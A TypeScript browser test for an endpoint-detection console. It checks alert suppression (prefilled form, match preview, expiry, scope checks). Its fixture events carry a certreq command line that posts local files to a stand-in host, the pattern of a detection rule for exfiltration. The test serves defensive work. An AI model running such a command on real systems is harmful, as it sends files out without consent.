/**
 * Suppress from an alert, in a real browser (Debian's chromium via playwright-core) against a real `serve`:
 * the form is prefilled from the alert, its preview count follows the edits, creating marks the stored alerts
 * and the list shows the expiry; a token without the triage scope does not see the form.
 */
import { test, before, after, describe } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { execFileSync } from 'node:child_process';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { startServer, type RunningServer } from '../../src/cli/startServer.js';
import { defaultConfig } from '../../src/service/config.js';
import { REPO_ROOT } from '../helpers/paths.js';
import { needs, TOOLS } from '../helpers/requirements.js';
import { AUTH, TOKEN } from './support/http.js';
import { ndjson, sysmonProcessCreate } from './support/events.js';

interface BrowserStorage {
  setItem(key: string, value: string): void;
}
declare const sessionStorage: BrowserStorage;

const browserNeeded = needs('chromium');
const VIEWER = 'viewer-token-0123456789abcdef';

let srv: RunningServer;
let browser: Browser | undefined;
let dataDir = '';

before(async () => {
  if (browserNeeded.skip) return;
  execFileSync(process.execPath, [join(REPO_ROOT, 'scripts', 'build-console.mjs')], { stdio: 'inherit' });
  dataDir = mkdtempSync(join(tmpdir(), 'pw-suppress-e2e-'));
  srv = await startServer(
    { ...defaultConfig(), port: 0, dataDir, tokens: [{ name: 'analyst', token: TOKEN, scopes: ['triage', 'ingest'] }, { name: 'viewer', token: VIEWER, scopes: ['read'] }] },
    { notice: () => {} },
  );
  const events = [1, 2, 3].map((n) => sysmonProcessCreate({ recordId: 700 + n, host: `LAB0${n}`, user: 'CORP\\bob', commandLine: `certreq -Post -config https://lab${n}.example.invalid/u C:\\a.txt C:\\b.txt` }));
  const r = await fetch(`${srv.url}/ingest`, { method: 'POST', headers: AUTH, body: ndjson(events) });
  assert.equal(r.status, 200);
  const { chromium } = await import('playwright-core');
  browser = await chromium.launch({ executablePath: TOOLS.chromium, args: ['--no-sandbox', '--disable-gpu', '--disable-dev-shm-usage'] });
});

after(async () => {
  await browser?.close();
  await srv?.close();
  if (dataDir) rmSync(dataDir, { recursive: true, force: true });
});

async function alertView(token: string, host: string): Promise<{ page: Page; errors: string[]; close: () => Promise<void> }> {
  const list = (await (await fetch(`${srv.url}/api/alerts?host=${host}`, { headers: AUTH })).json()) as { items: { id: string }[] };
  const ctx = await browser!.newContext({ viewport: { width: 1440, height: 900 } });
  await ctx.addInitScript((t: string) => sessionStorage.setItem('procwatch.token', t), token);
  const page = await ctx.newPage();
  const errors: string[] = [];
  page.on('pageerror', (e) => errors.push(e.message));
  page.on('response', (r) => {
    if (r.status() >= 400) errors.push(`${r.status()} ${r.url()}`);
  });
  await page.goto(`${srv.url}/console/#/alerts/${list.items[0]!.id}`);
  await page.waitForSelector('#reason');
  return { page, errors, close: () => ctx.close() };
}

describe('console: suppress from an alert', browserNeeded, () => {
  test('prefilled from the alert, preview follows the edits, creation marks the stored alerts, the list shows the expiry', async () => {
    const { page, errors, close } = await alertView(TOKEN, 'LAB02');
    try {
      await page.waitForSelector('#suppress-form');
      assert.equal(await page.inputValue('#suppress-form input[name=host]'), 'LAB02');
      assert.equal(await page.inputValue('#suppress-form input[name=rule_id]'), 'certreq-download-upload');
      assert.equal(await page.inputValue('#suppress-form input[name=user]'), 'CORP\\bob');
      assert.match(await page.inputValue('#suppress-form input[name=command_line]'), /lab2\.example\.invalid/);
      await page.waitForFunction(() => /Matches 1 stored alert\b/.test((globalThis as unknown as { document: { querySelector(s: string): { textContent: string | null } | null } }).document.querySelector('#suppress-preview')?.textContent ?? ''));
      await page.fill('#suppress-form input[name=host]', 'LAB*');
      await page.fill('#suppress-form input[name=command_line]', 'certreq -Post *');
      await page.waitForFunction(() => /Matches 3 stored alerts/.test((globalThis as unknown as { document: { querySelector(s: string): { textContent: string | null } | null } }).document.querySelector('#suppress-preview')?.textContent ?? ''));
      await page.selectOption('#suppress-form select[name=expiry]', '7');
      await page.fill('#suppress-form input[name=reason]', 'lab hosts test enrolment');
      await page.click('#suppress-form button[type=submit]');
      await page.waitForSelector('#suppress-created');
      assert.match((await page.textContent('#suppress-created')) ?? '', /3 stored alerts marked suppressed/);
      await page.waitForSelector('#suppressions tbody tr');
      const row = (await page.textContent('#suppressions tbody tr')) ?? '';
      assert.match(row, /host LAB\*/);
      assert.match(row, /lab hosts test enrolment/);
      assert.doesNotMatch(row, /never/, 'the expiry is shown');
      const stored = (await (await fetch(`${srv.url}/api/alerts?suppressed=true`, { headers: AUTH })).json()) as { total: number };
      assert.equal(stored.total, 3);
      assert.deepEqual(errors, []);
    } finally {
      await close();
    }
  });

  test('a token without the triage scope sees no suppression form', async () => {
    const { page, errors, close } = await alertView(VIEWER, 'LAB01');
    try {
      await page.waitForSelector('#actions'); // the alert view is drawn (no status form either: that needs triage too)
      await page.waitForTimeout(300);
      assert.equal(await page.$('#suppress-form'), null);
      assert.deepEqual(errors, []);
    } finally {
      await close();
    }
  });
});
